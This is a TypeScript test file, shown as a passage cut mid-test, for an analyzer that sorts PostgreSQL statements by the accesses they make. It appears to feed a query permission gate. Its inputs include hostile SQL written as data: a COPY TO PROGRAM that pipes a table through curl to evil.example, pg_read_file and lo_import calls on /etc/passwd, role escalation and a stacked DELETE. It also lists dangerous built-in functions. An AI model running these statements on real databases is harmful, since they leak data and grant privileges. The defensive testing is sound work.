import { beforeAll, describe, expect, it } from 'vitest';
import { initSql } from '../../src/sql/parser.js';
import { analyze } from '../../src/sql/analyze.js';
import type { Access } from '../../src/sql/types.js';

beforeAll(async () => {
  await initSql();
});

/** The accesses of a one-statement text (fails the test when it is not exactly one statement). */
function acc(sql: string, searchPath?: string[]): Access[] {
  const r = analyze(sql, searchPath ? { searchPath } : {});
  expect(r).toHaveLength(1);
  expect(r[0]!.error).toBeUndefined();
  return r[0]!.accesses;
}

function sorted(a: Access[]): Access[] {
  const key = (x: Access) => `${x.kind} ${x.object ?? ''} ${x.exact ? 1 : 0}`;
  return a.slice().sort((x, y) => key(x).localeCompare(key(y)));
}

function expectAccesses(sql: string, expected: Access[], searchPath?: string[]): void {
  expect(sorted(acc(sql, searchPath))).toEqual(sorted(expected));
}

describe('splitting as the server splits', () => {
  it("reads 'a\\' ; DELETE as a SELECT and a DELETE (backslash is literal)", () => {
    const r = analyze("SELECT 'a\\' ; DELETE FROM users; --'");
    expect(r.map((s) => [s.kind, s.sql, s.accesses])).toEqual([
      ['select', "SELECT 'a\\'", [{ kind: 'select' }]],
      ['delete', 'DELETE FROM users', [{ kind: 'delete', object: 'public.users' }]],
    ]);
  });
  it('splits on byte offsets with multi-byte text before the split', () => {
    const r = analyze("SELECT 'é€' AS x; DELETE FROM t");
    expect(r.map((s) => s.sql)).toEqual(["SELECT 'é€' AS x", 'DELETE FROM t']);
  });
  it('empty text is no statement', () => {
    expect(analyze('')).toEqual([]);
    expect(analyze(' ; ')).toEqual([]);
  });
  it('a parse error is one denied statement with a reason that does not echo literals', () => {
    const r = analyze("SELECT 'secret' FROM WHERE");
    expect(r).toHaveLength(1);
    expect(r[0]!.kind).toBe('other');
    expect(r[0]!.accesses).toEqual([]);
    expect(r[0]!.outputs).toBeNull();
    expect(r[0]!.error).toMatch(/^unparsable SQL: syntax error/);
    expect(r[0]!.error).not.toContain('secret');
  });
});

describe('names', () => {
  it('folds unquoted, keeps quoted and U&"" exact', () => {
    expectAccesses('SELECT * FROM Users', [{ kind: 'select', object: 'public.users' }]);
    expectAccesses('SELECT * FROM "Users"', [{ kind: 'select', object: 'public.Users' }]);
    expectAccesses('SELECT * FROM U&"d\\0061ta"', [{ kind: 'select', object: 'public.data' }]);
    expectAccesses('SELECT * FROM U&"\\0055sers"', [{ kind: 'select', object: 'public.Users' }]);
    expectAccesses('SELECT * FROM "App"."T"', [{ kind: 'select', object: 'App.T' }]);
  });
  it('pg_catalog relations shadow the search path', () => {
    expectAccesses('SELECT * FROM pg_class', [{ kind: 'select', object: 'pg_catalog.pg_class' }]);
    expectAccesses('SELECT * FROM public.pg_class', [{ kind: 'select', object: 'public.pg_class' }]);
  });
  it('a public table named like a pg_catalog function is a table', () => {
    expectAccesses('SELECT * FROM lower', [{ kind: 'select', object: 'public.lower' }]);
  });
  it('unqualified names use every schema of the search path', () => {
    expectAccesses('SELECT * FROM t', [{ kind: 'select', object: 'app.t' }, { kind: 'select', object: 'public.t' }], ['app', 'public']);
    expectAccesses('SELECT * FROM t', [{ kind: 'select', object: 'app.t' }], ['app']);
  });
  it('SET search_path changes resolution for the rest of the message', () => {
    const r = analyze('SET search_path = evil; SELECT * FROM t');
    expect(r[0]!.accesses).toEqual([{ kind: 'set', object: 'search_path' }]);
    expect(r[0]!.literalSensitive).toBe(true);
    expect(r[1]!.accesses).toEqual([{ kind: 'select', object: 'evil.t' }]);
  });
});

describe('statements and wrappers', () => {
  it('SELECT 1 has an object-less select', () => {
    expectAccesses('SELECT 1', [{ kind: 'select' }]);
  });
  it('INSERT … SELECT', () => {
    expectAccesses('INSERT INTO a SELECT * FROM b', [
      { kind: 'insert', object: 'public.a' },
      { kind: 'select', object: 'public.b' },
    ]);
  });
  it('EXPLAIN ANALYZE runs its statement', () => {
    expectAccesses('EXPLAIN ANALYZE DELETE FROM users', [{ kind: 'explain' }, { kind: 'delete', object: 'public.users' }]);
    expectAccesses('EXPLAIN (ANALYZE, VERBOSE) UPDATE t SET a = 1', [{ kind: 'explain' }, { kind: 'update', object: 'public.t' }]);
    expectAccesses('EXPLAIN (ANALYZE true) DELETE FROM t', [{ kind: 'explain' }, { kind: 'delete', object: 'public.t' }]);
  });
  it('plain EXPLAIN only plans: objects become explain accesses, calls stay', () => {
    expectAccesses('EXPLAIN DELETE FROM users', [{ kind: 'explain' }, { kind: 'explain', object: 'public.users' }]);
    expectAccesses('EXPLAIN (ANALYZE off) DELETE FROM t', [{ kind: 'explain' }, { kind: 'explain', object: 'public.t' }]);
    expectAccesses('EXPLAIN SELECT f(1) FROM t', [
      { kind: 'explain' },
      { kind: 'explain', object: 'public.t' },
      { kind: 'call', object: 'public.f' },
    ]);
  });
  it('SELECT … INTO creates a table', () => {
    expectAccesses('SELECT * INTO newt FROM users', [{ kind: 'create', object: 'public.newt' }, { kind: 'select', object: 'public.users' }]);
    expectAccesses('SELECT 1 INTO TEMP x', [{ kind: 'create', object: 'pg_temp.x' }, { kind: 'select' }]);
    expect(analyze('SELECT * INTO newt FROM users')[0]!.outputs).toBeNull();
  });
  it('a data-modifying CTE is a write; a CTE name is not an object', () => {
    expectAccesses('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', [
      { kind: 'delete', object: 'public.t' },
      { kind: 'select', object: 'public.t' },
    ]);
    expectAccesses('WITH d AS (DELETE FROM t) SELECT 1', [{ kind: 'delete', object: 'public.t' }, { kind: 'select' }]);
  });
  it('a non-recursive CTE referring to its own name reads the real table', () => {
    expectAccesses('WITH users AS (SELECT * FROM users) SELECT * FROM users', [{ kind: 'select', object: 'public.users' }]);
    expectAccesses('WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', [{ kind: 'select' }]);
    expectAccesses('WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b', [{ kind: 'select', object: 'public.a' }]);
    expectAccesses('WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r', [{ kind: 'select' }]);
  });
  it('a CTE name does not shadow a schema-qualified table', () => {
    expectAccesses('WITH t AS (SELECT 1) SELECT * FROM public.t', [{ kind: 'select', object: 'public.t' }]);
  });
  it('DML targets are never CTEs', () => {
    expectAccesses('WITH t AS (SELECT 1) DELETE FROM t', [{ kind: 'delete', object: 'public.t' }]);
  });
  it('DECLARE CURSOR looks through to its query and defines the cursor', () => {
    const r = analyze('DECLARE c CURSOR FOR SELECT email FROM users')[0]!;
    expect(r.kind).toBe('select');
    expect(r.accesses).toEqual([{ kind: 'select', object: 'public.users' }]);
    expect(r.defines).toEqual({
      namespace: 'cursor', name: 'c',
      accesses: [{ kind: 'select', object: 'public.users' }],
      outputs: [{ name: 'email', sources: ['public.users.email'] }],
    });
    const f = analyze('FETCH 10 FROM c')[0]!;
    expect(f.accesses).toEqual([{ kind: 'select' }]);
    expect(f.uses).toEqual({ namespace: 'cursor', name: 'c' });
  });
  it('PREPARE is the prepared statement plus prepare; EXECUTE names it', () => {
    const p = analyze('PREPARE p(int) AS DELETE FROM t WHERE a = $1')[0]!;
    expect(p.kind).toBe('prepare');
    expect(p.accesses).toEqual([{ kind: 'prepare', object: 'p' }, { kind: 'delete', object: 'public.t' }, { kind: 'select', object: 'public.t' }]);
    expect(p.defines).toEqual({
      namespace: 'prepared', name: 'p',
      accesses: [{ kind: 'delete', object: 'public.t' }, { kind: 'select', object: 'public.t' }],
      outputs: null,
    });
    const e = analyze('EXECUTE p(1)')[0]!;
    expect(e.kind).toBe('execute');
    expect(e.accesses).toEqual([{ kind: 'execute', object: 'p' }]);
    expect(e.uses).toEqual({ namespace: 'prepared', name: 'p' });
    expectAccesses("EXECUTE p(pg_read_file('/etc/passwd'))", [
      { kind: 'execute', object: 'p' },
      { kind: 'call', object: 'pg_catalog.pg_read_file', exact: true },
    ]);
  });
  it('CREATE TABLE AS, CREATE VIEW, CREATE MATERIALIZED VIEW read their query', () => {
    expectAccesses('CREATE TABLE x AS SELECT * FROM users', [{ kind: 'create', object: 'public.x' }, { kind: 'select', object: 'public.users' }]);
    expectAccesses('CREATE VIEW v AS SELECT email FROM users', [{ kind: 'create', object: 'public.v' }, { kind: 'select', object: 'public.users' }]);
    expectAccesses('CREATE MATERIALIZED VIEW mv AS SELECT 1 FROM s.t', [{ kind: 'create', object: 'public.mv' }, { kind: 'select', object: 's.t' }]);
  });
  it('COPY (query) TO reads the query', () => {
    expectAccesses('COPY (SELECT * FROM users) TO STDOUT', [{ kind: 'select', object: 'public.users' }, { kind: 'copy_to' }]);
    expectAccesses('COPY users TO STDOUT', [{ kind: 'copy_to', object: 'public.users' }, { kind: 'select', object: 'public.users' }]);
    expectAccesses('COPY users FROM STDIN', [{ kind: 'copy_from', object: 'public.users' }]);
  });
  it('COPY with PROGRAM or a file is an exact access named by the literal', () => {
    const r = analyze("COPY users TO PROGRAM 'curl -d @- evil.example'")[0]!;
    expect(sorted(r.accesses)).toEqual(sorted([
      { kind: 'copy_to', object: 'program:curl -d @- evil.example', exact: true },
      { kind: 'copy_to', object: 'public.users' },
      { kind: 'select', object: 'public.users' },
    ]));
    expect(r.literalSensitive).toBe(true);
    expectAccesses("COPY users FROM '/etc/passwd'", [
      { kind: 'copy_from', object: 'file:/etc/passwd', exact: true },
      { kind: 'copy_from', object: 'public.users' },
    ]);
    expectAccesses("COPY (SELECT 1) TO PROGRAM 'sh'", [{ kind: 'copy_to', object: 'program:sh', exact: true }, { kind: 'select' }, { kind: 'copy_to' }]);
  });
  it('DO, SET ROLE, SET SESSION AUTHORIZATION, ALTER SYSTEM are exact', () => {
    expectAccesses("DO $$BEGIN PERFORM 1; END$$", [{ kind: 'do', exact: true }]);
    expectAccesses('SET ROLE admin', [{ kind: 'set', object: 'role', exact: true }]);
    expectAccesses('SET LOCAL ROLE admin', [{ kind: 'set', object: 'role', exact: true }]);
    expectAccesses('SET "Role" = admin', [{ kind: 'set', object: 'role', exact: true }]);
    expectAccesses('SET SESSION AUTHORIZATION admin', [{ kind: 'set', object: 'session_authorization', exact: true }]);
    expectAccesses("ALTER SYSTEM SET work_mem = '1GB'", [{ kind: 'alter', object: 'system', exact: true }]);
  });
  it('SET, RESET, SHOW', () => {
    expectAccesses("SET application_name = 'x'", [{ kind: 'set', object: 'application_name' }]);
    expectAccesses("SET TIME ZONE 'UTC'", [{ kind: 'set', object: 'timezone' }]);
    expectAccesses('SET statement_timeout TO 5000', [{ kind: 'set', object: 'statement_timeout' }]);
    expectAccesses('RESET ROLE', [{ kind: 'reset', object: 'role' }]);
    expectAccesses('RESET ALL', [{ kind: 'reset', object: 'all' }]);
    expectAccesses('SHOW search_path', [{ kind: 'show' }]);
  });
  it('SET client_encoding other than UTF8 is refused', () => {
    for (const ok of ["SET client_encoding = 'UTF8'", "SET client_encoding TO 'utf-8'", "SET NAMES 'Unicode'"]) {
      const r = analyze(ok)[0]!;
      expect(r.error).toBeUndefined();
      expect(r.accesses).toEqual([{ kind: 'set', object: 'client_encoding' }]);
      expect(r.literalSensitive).toBe(true);
    }
    for (const bad of ["SET client_encoding = 'SJIS'", "SET NAMES 'sjis'", 'SET client_encoding TO DEFAULT', "SET client_encoding = 'LATIN1'"]) {
      const r = analyze(bad)[0]!;
      expect(r.error).toBe('SET client_encoding to anything but UTF8 is refused');
      expect(r.accesses).toEqual([]);
      expect(r.literalSensitive).toBe(true);
    }
  });
  it('transactions', () => {
    for (const t of ['BEGIN', 'COMMIT', 'ROLLBACK', 'SAVEPOINT a', 'RELEASE a', 'ROLLBACK TO a', 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE']) {
      expect(acc(t)).toEqual([{ kind: 'transaction' }]);
    }
    expectAccesses("PREPARE TRANSACTION 'x'", [{ kind: 'other', object: 'prepared_transaction' }]);
  });
  it('INSERT … ON CONFLICT DO UPDATE is insert and update', () => {
    // The conflict target reads the table (sql-oracle-findings.test.ts).
    expectAccesses('INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b', [
      { kind: 'insert', object: 'public.t' },
      { kind: 'update', object: 'public.t' },
      { kind: 'select', object: 'public.t' },
    ]);
    expectAccesses('INSERT INTO t (a) VALUES (1) ON CONFLICT DO NOTHING', [{ kind: 'insert', object: 'public.t' }]);
  });
  it('RETURNING reads the target', () => {
    expectAccesses('DELETE FROM t RETURNING *', [{ kind: 'delete', object: 'public.t' }, { kind: 'select', object: 'public.t' }]);
  });
  it('UPDATE … FROM and DELETE … USING read the other tables', () => {
    expectAccesses('UPDATE a SET x = b.x FROM b WHERE b.id = 1', [{ kind: 'update', object: 'public.a' }, { kind: 'select', object: 'public.b' }]);
    expectAccesses('DELETE FROM a USING b WHERE b.id = 1', [{ kind: 'delete', object: 'public.a' }, { kind: 'select', object: 'public.b' }]);
  });
  it('a write whose conditions or values read the target reads it', () => {
    expectAccesses('UPDATE a SET x = b.x FROM b WHERE a.id = b.id', [
      { kind: 'update', object: 'public.a' }, { kind: 'select', object: 'public.b' }, { kind: 'select', object: 'public.a' },
    ]);
    expectAccesses("DELETE FROM users WHERE ssn LIKE '1%'", [{ kind: 'delete', object: 'public.users' }, { kind: 'select', object: 'public.users' }]);
    expectAccesses('UPDATE t SET n = n + 1', [{ kind: 'update', object: 'public.t' }, { kind: 'select', object: 'public.t' }]);
    expectAccesses('UPDATE t SET n = 1', [{ kind: 'update', object: 'public.t' }]);
    expectAccesses('DELETE FROM t', [{ kind: 'delete', object: 'public.t' }]);
    expectAccesses('INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET n = t.n + 1', [
      { kind: 'insert', object: 'public.t' }, { kind: 'update', object: 'public.t' }, { kind: 'select', object: 'public.t' },
    ]);
  });
  it('MERGE is merge plus each action on the target, and reads the source', () => {
    expectAccesses('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)', [
      { kind: 'merge', object: 'public.t' },
      { kind: 'update', object: 'public.t' },
      { kind: 'insert', object: 'public.t' },
      { kind: 'select', object: 'public.s' },
      { kind: 'select', object: 'public.t' },
    ]);
    expectAccesses('MERGE INTO t USING (SELECT * FROM s) x ON t.id = x.id WHEN MATCHED THEN DELETE', [
      { kind: 'merge', object: 'public.t' },
      { kind: 'delete', object: 'public.t' },
      { kind: 'select', object: 'public.s' },
      { kind: 'select', object: 'public.t' },
    ]);
  });
  it('set operations, LATERAL, sub-selects in every clause', () => {
    expectAccesses('SELECT a FROM x UNION SELECT b FROM y EXCEPT SELECT c FROM z', [
      { kind: 'select', object: 'public.x' }, { kind: 'select', object: 'public.y' }, { kind: 'select', object: 'public.z' },
    ]);
    expectAccesses('SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.id = a.id) s', [
      { kind: 'select', object: 'public.a' }, { kind: 'select', object: 'public.b' },
    ]);
    expectAccesses(
      'SELECT (SELECT 1 FROM s1) FROM t WHERE EXISTS (SELECT 1 FROM s2) GROUP BY (SELECT 1 FROM s3) HAVING 1 IN (SELECT 1 FROM s4) ORDER BY (SELECT 1 FROM s5) LIMIT (SELECT 1 FROM s6)',
      ['t', 's1', 's2', 's3', 's4', 's5', 's6'].map((n) => ({ kind: 'select' as const, object: `public.${n}` })),
    );
    expectAccesses('SELECT * FROM (SELECT * FROM (VALUES (1)) v JOIN secret ON true) q', [{ kind: 'select', object: 'public.secret' }]);
  });
  it('CALL is always a call', () => {
    expectAccesses('CALL app.do_it(1)', [{ kind: 'call', object: 'app.do_it' }]);
    expectAccesses('CALL do_it()', [{ kind: 'call', object: 'public.do_it' }]);
  });
  it('TRUNCATE, LOCK, LISTEN, NOTIFY, VACUUM, ANALYZE', () => {
    expectAccesses('TRUNCATE a, s.b', [{ kind: 'truncate', object: 'public.a' }, { kind: 'truncate', object: 's.b' }]);
    expectAccesses('LOCK TABLE a IN ACCESS EXCLUSIVE MODE', [{ kind: 'lock', object: 'public.a' }]);
    expectAccesses('LISTEN chan', [{ kind: 'listen', object: 'chan' }]);
    expectAccesses("NOTIFY chan, 'x'", [{ kind: 'notify', object: 'chan' }]);
    expectAccesses('VACUUM a', [{ kind: 'vacuum', object: 'public.a' }]);
    expectAccesses('ANALYZE a', [{ kind: 'analyze', object: 'public.a' }]);
  });
  it('SELECT … FOR UPDATE locks rows', () => {
    expectAccesses('SELECT * FROM a FOR UPDATE', [{ kind: 'select', object: 'public.a' }, { kind: 'lock', object: 'public.a' }]);
  });
  it('DDL names its object', () => {
    expectAccesses('CREATE TABLE t (id int)', [{ kind: 'create', object: 'public.t' }]);
    expectAccesses('DROP TABLE t, s.u', [{ kind: 'drop', object: 'public.t' }, { kind: 'drop', object: 's.u' }]);
    expectAccesses('ALTER TABLE t ADD COLUMN c int', [{ kind: 'alter', object: 'public.t' }]);
    expectAccesses('CREATE INDEX ON t (a)', [{ kind: 'create', object: 'public.t' }]);
    expectAccesses('GRANT SELECT ON t TO bob', [{ kind: 'grant', object: 'public.t' }]);
    expectAccesses('REVOKE SELECT ON t FROM bob', [{ kind: 'revoke', object: 'public.t' }]);
    expectAccesses("COMMENT ON TABLE t IS 'x'", [{ kind: 'comment', object: 'public.t' }]);
    expectAccesses('CREATE ROLE bob', [{ kind: 'create', object: 'role:bob' }]);
    expectAccesses('CREATE EXTENSION dblink', [{ kind: 'create', object: 'extension:dblink' }]);
  });
  it('function calls in defaults of DDL are calls', () => {
    expectAccesses('ALTER TABLE t ADD COLUMN c int DEFAULT app.f()', [{ kind: 'alter', object: 'public.t' }, { kind: 'call', object: 'app.f' }]);
    expectAccesses('CREATE TABLE t (id bigint DEFAULT nextval(\'s\'))', [
      { kind: 'create', object: 'public.t' },
      { kind: 'call', object: 'pg_catalog.nextval' },
      { kind: 'update', object: 'public.s' }, // the sequence it names (sql-oracle-findings.test.ts)
    ]);
  });
});

describe('functions', () => {
  it('pure built-ins are part of the read', () => {
    expectAccesses('SELECT lower(email), count(*), now() FROM users', [{ kind: 'select', object: 'public.users' }]);
  });
  it('functions outside pg_catalog are calls, wherever they appear', () => {
    expectAccesses('SELECT * FROM app.f()', [{ kind: 'call', object: 'app.f' }, { kind: 'select' }]);
    expectAccesses('SELECT f(x) FROM t', [{ kind: 'call', object: 'public.f' }, { kind: 'select', object: 'public.t' }]);
    expectAccesses('SELECT 1 FROM t WHERE g(a)', [{ kind: 'call', object: 'public.g' }, { kind: 'select', object: 'public.t' }]);
    expectAccesses('INSERT INTO t VALUES (h())', [{ kind: 'insert', object: 'public.t' }, { kind: 'call', object: 'public.h' }]);
  });
  it('side-effecting built-ins are calls on pg_catalog', () => {
    expectAccesses("SELECT nextval('s')", [{ kind: 'call', object: 'pg_catalog.nextval' }, { kind: 'select' }, { kind: 'update', object: 'public.s' }]);
    expectAccesses('SELECT pg_advisory_lock(1)', [{ kind: 'call', object: 'pg_catalog.pg_advisory_lock' }, { kind: 'select' }]);
    expectAccesses("SELECT pg_notify('c', 'x')", [{ kind: 'call', object: 'pg_catalog.pg_notify' }, { kind: 'select' }]);
    expectAccesses('SELECT txid_current()', [{ kind: 'call', object: 'pg_catalog.txid_current' }, { kind: 'select' }]);
  });
  it('dangerous built-ins are exact calls', () => {
    for (const [sql, fn] of [
      ["SELECT set_config('role', 'admin', false)", 'set_config'],
      ["SELECT pg_read_file('/etc/passwd')", 'pg_read_file'],
      ["SELECT pg_ls_dir('.')", 'pg_ls_dir'],
      ["SELECT lo_import('/etc/passwd')", 'lo_import'],
      ['SELECT pg_terminate_backend(1)', 'pg_terminate_backend'],
      ['SELECT pg_reload_conf()', 'pg_reload_conf'],
      ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", 'query_to_xml'],
      ["SELECT table_to_xml('users', true, true, '')", 'table_to_xml'],
      ["SELECT * FROM ts_stat('SELECT body FROM secret')", 'ts_stat'],
      ["SELECT pg_catalog.set_config('role', 'x', true)", 'set_config'],
    ] as const) {
      expect(acc(sql)).toContainEqual({ kind: 'call', object: `pg_catalog.${fn}`, exact: true });
    }
  });
  it('dblink is exact wherever it is installed', () => {
    expectAccesses("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", [{ kind: 'call', object: 'public.dblink', exact: true }, { kind: 'select' }]);
  });
  it('a public function named like a pg_catalog one resolves to pg_catalog when unqualified', () => {
    expectAccesses('SELECT lower(x) FROM t', [{ kind: 'select', object: 'public.t' }]);
    expectAccesses('SELECT public.lower(x) FROM t', [{ kind: 'call', object: 'public.lower' }, { kind: 'select', object: 'public.t' }]);
  });
  it('an operator from outside pg_catalog is a call', () => {
    expectAccesses('SELECT 1 OPERATOR(app.===) 2', [{ kind: 'call', object: 'app.===' }, { kind: 'select' }]);
  });
});

describe('settings by other names', () => {
  it('set_config is an exact call plus a set of the setting it names', () => {
    const r = analyze("SELECT set_config('role', 'admin', false)")[0]!;
    expect(sorted(r.accesses)).toEqual(sorted([
      { kind: 'call', object: 'pg_catalog.set_config', exact: true },
      { kind: 'set', object: 'role', exact: true },
      { kind: 'select' },
    ]));
    expect(r.literalSensitive).toBe(true);
    expectAccesses("SELECT pg_catalog.set_config('application_name', 'x', false)", [
      { kind: 'call', object: 'pg_catalog.set_config', exact: true },
      { kind: 'set', object: 'application_name' },
      { kind: 'select' },
    ]);
  });
  it('set_config with a computed name, or client_encoding to another encoding, is refused', () => {
    expect(analyze('SELECT set_config(current_user, $$x$$, false)')[0]!.error).toBe('set_config with a setting name that is not a constant');
    expect(analyze("SELECT set_config('client_encoding', 'SJIS', false)")[0]!.error).toBe('SET client_encoding to anything but UTF8 is refused');
  });
  it('set_config of search_path changes resolution for the rest of the message', () => {
    const r = analyze("SELECT pg_catalog.set_config('search_path', 'app, public', false); SELECT * FROM t");
    expect(r[0]!.searchPathChange).toEqual(['app', 'public']);
    expect(r[1]!.accesses).toEqual([{ kind: 'select', object: 'app.t' }, { kind: 'select', object: 'public.t' }]);
    // The call may not run (no row, false condition): the old path stays a candidate.
    const c = analyze("SELECT CASE WHEN false THEN set_config('search_path', 'x', false) END; SELECT * FROM secret");
    expect(c[0]!.searchPathChange).toEqual(['x', 'public']);
    expect(c[1]!.accesses).toEqual([{ kind: 'select', object: 'x.secret' }, { kind: 'select', object: 'public.secret' }]);
  });
  it('an empty search path leaves unqualified user tables unresolvable (as the server does)', () => {
    const r = analyze("SET search_path = ''; SELECT * FROM t; SELECT * FROM pg_class");
    expect(r[1]!.error).toBe('empty search path: cannot resolve relation');
    expect(r[2]!.accesses).toEqual([{ kind: 'select', object: 'pg_catalog.pg_class' }]);
  });
  it('settings inside DDL do not change this session, but are checked', () => {
    const r = analyze('ALTER ROLE bob SET search_path = evil; SELECT * FROM t');
    expect(r[0]!.accesses).toEqual([{ kind: 'alter', object: 'role:bob' }, { kind: 'set', object: 'search_path' }]);
    expect(r[0]!.searchPathChange).toBeUndefined();
    expect(r[1]!.accesses).toEqual([{ kind: 'select', object: 'public.t' }]);
    expect(analyze('ALTER ROLE bob SET standard_conforming_strings = off')[0]!.error).toBe('SET standard_conforming_strings to anything but on is refused');
    expect(analyze("ALTER DATABASE d SET client_encoding = 'SJIS'")[0]!.error).toBe('SET client_encoding to anything but UTF8 is refused');
    expectAccesses('ALTER ROLE bob IN DATABASE d SET role = admin', [{ kind: 'alter', object: 'role:bob' }, { kind: 'set', object: 'role', exact: true }]);
    const f = analyze("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = evil AS 'select 1'; SELECT * FROM t");
    expect(f[1]!.accesses).toEqual([{ kind: 'select', object: 'public.t' }]);
  });
  it('a prepared statement or cursor that would change the search path is refused', () => {
    expect(analyze("PREPARE p AS SELECT set_config('search_path', 'x', false)")[0]!.error).toBe('a prepared statement that changes the search path is refused');
  });
  it('pg_catalog placed after other schemas lets them shadow built-ins', () => {
    const r = analyze('SET search_path = public, pg_catalog; SELECT lower(x) FROM pg_class');
    expect(r[0]!.searchPathChange).toEqual(['public', 'pg_catalog']);
    expect(sorted(r[1]!.accesses)).toEqual(sorted([
      { kind: 'select', object: 'public.pg_class' },
      { kind: 'select', object: 'pg_catalog.pg_class' },
      { kind: 'call', object: 'public.lower' },
    ]));
  });
  it('a transaction end after a path change may bring back any path of the message', () => {
    const r = analyze('BEGIN; SET LOCAL search_path = x; SELECT * FROM a; ROLLBACK; SELECT * FROM t');
    expect(r[2]!.accesses).toEqual([{ kind: 'select', object: 'x.a' }]);
    expect(r[4]!.accesses).toEqual([{ kind: 'select', object: 'public.t' }, { kind: 'select', object: 'x.t' }]);
  });
  it('RESET search_path returns to the caller\'s path', () => {
    const r = analyze('SET search_path = x; RESET search_path; SELECT * FROM t', { searchPath: ['app'] });
    expect(r[1]!.searchPathChange).toBe('reset');
    expect(r[2]!.accesses).toEqual([{ kind: 'select', object: 'app.t' }]);
  });
  it('writing pg_settings is exact', () => {
    expectAccesses("UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'", [
      { kind: 'update', object: 'pg_catalog.pg_settings', exact: true },
      { kind: 'select', object: 'pg_catalog.pg_settings' },
    ]);
  });
  it('SET TRANSACTION is a transaction statement; session characteristics are settings', () => {
    expectAccesses('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', [{ kind: 'transaction' }]);
    expectAccesses('SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY', [{ kind: 'set', object: 'default_transaction_read_only' }]);
  });
});

describe('EXPLAIN options', () => {
  it('any ANALYZE that is not clearly false executes', () => {
    for (const opt of ['ANALYZE', 'ANALYZE true', 'ANALYZE on', 'ANALYZE 1', 'ANALYZE false, ANALYZE true']) {
      expectAccesses(`EXPLAIN (${opt}) DELETE FROM t`, [{ kind: 'explain' }, { kind: 'delete', object: 'public.t' }]);
    }
    for (const opt of ['ANALYZE false', 'ANALYZE off', 'ANALYZE 0', 'VERBOSE']) {
      expectAccesses(`EXPLAIN (${opt}) DELETE FROM t`, [{ kind: 'explain' }, { kind: 'explain', object: 'public.t' }]);
    }
  });
  it('EXPLAIN ANALYZE EXECUTE names the prepared statement it runs', () => {
    const r = analyze('EXPLAIN ANALYZE EXECUTE p')[0]!;
    expect(r.accesses).toEqual([{ kind: 'explain' }, { kind: 'execute', object: 'p' }]);
    expect(r.uses).toEqual({ namespace: 'prepared', name: 'p' });
  });
});

describe('operators outside pg_catalog', () => {
  it('in ORDER BY … USING and quantified sub-queries', () => {
    expectAccesses('SELECT * FROM t ORDER BY a USING OPERATOR(app.<)', [{ kind: 'select', object: 'public.t' }, { kind: 'call', object: 'app.<' }]);
    expectAccesses('SELECT 1 WHERE 1 OPERATOR(app.=) ANY (SELECT 1)', [{ kind: 'call', object: 'app.=' }, { kind: 'select' }]);
    expectAccesses('SELECT 1 OPERATOR(pg_catalog.+) 2', [{ kind: 'select' }]);
  });
});

describe('more settings and transactions', () => {
  it("pg_dump's set_config(name, …) FROM pg_settings WHERE name = 'x' sets x", () => {
    expectAccesses("SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", [
      { kind: 'select', object: 'pg_catalog.pg_settings' },
      { kind: 'call', object: 'pg_catalog.set_config', exact: true },
      { kind: 'set', object: 'restrict_nonsystem_relation_kind' },
    ]);
    expectAccesses("SELECT set_config(s.name, 'x', false) FROM pg_settings s WHERE true AND s.name = 'role'", [
      { kind: 'select', object: 'pg_catalog.pg_settings' },
      { kind: 'call', object: 'pg_catalog.set_config', exact: true },
      { kind: 'set', object: 'role', exact: true },
    ]);
  });
  it('but not when the row is not pinned by a top-level equality', () => {
    for (const sql of [
      "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'a' OR true",
      "SELECT set_config(name, 'x', false) FROM pg_settings, t WHERE name = 'a'",
      "SELECT set_config(name, 'x', false) FROM public.pg_settings WHERE name = 'a'",
      "SELECT (SELECT set_config(name, 'x', false)) FROM pg_settings WHERE name = 'a'",
    ]) {
      expect([sql, analyze(sql)[0]!.error]).toEqual([sql, 'set_config with a setting name that is not a constant']);
    }
  });
  it('READ WRITE lifts a read-only default: a set of transaction_read_only', () => {
    expectAccesses('BEGIN READ WRITE', [{ kind: 'transaction' }, { kind: 'set', object: 'transaction_read_only' }]);
    expectAccesses('SET TRANSACTION READ WRITE', [{ kind: 'transaction' }, { kind: 'set', object: 'transaction_read_only' }]);
    expectAccesses('BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY', [{ kind: 'transaction' }]);
    expectAccesses('SET TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY', [{ kind: 'transaction' }]);
    expectAccesses('SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE', [{ kind: 'set', object: 'default_transaction_read_only' }]);
  });
  it('a NUL byte is refused (the C parser would stop there)', () => {
    const r = analyze('SELECT 1\u0000; DELETE FROM users');
    expect(r).toHaveLength(1);
    expect(r[0]!.error).toBe('statement contains a NUL byte');
    expect(r[0]!.accesses).toEqual([]);
  });
  it('COMMENT ON a column or constraint names the table', () => {
    expectAccesses("COMMENT ON COLUMN orders.total IS 'x'", [{ kind: 'comment', object: 'public.orders' }]);
    expectAccesses("COMMENT ON CONSTRAINT c ON s.t IS 'x'", [{ kind: 'comment', object: 's.t' }]);
  });
  it('operators pg_catalog does not have are calls; built-in ones are not', () => {
    expectAccesses('SELECT 1 |~| 2', [{ kind: 'call', object: 'public.|~|' }, { kind: 'select' }]);
    expectAccesses("SELECT 1 + 2 WHERE 3 BETWEEN 1 AND 5 AND 'a' LIKE 'b' AND 1 IN (1, 2) AND a->>'k' = 'v'", [{ kind: 'select' }]);
  });
});

describe('DDL objects', () => {
  it('CREATE SCHEMA … CREATE TABLE creates in the new schema', () => {
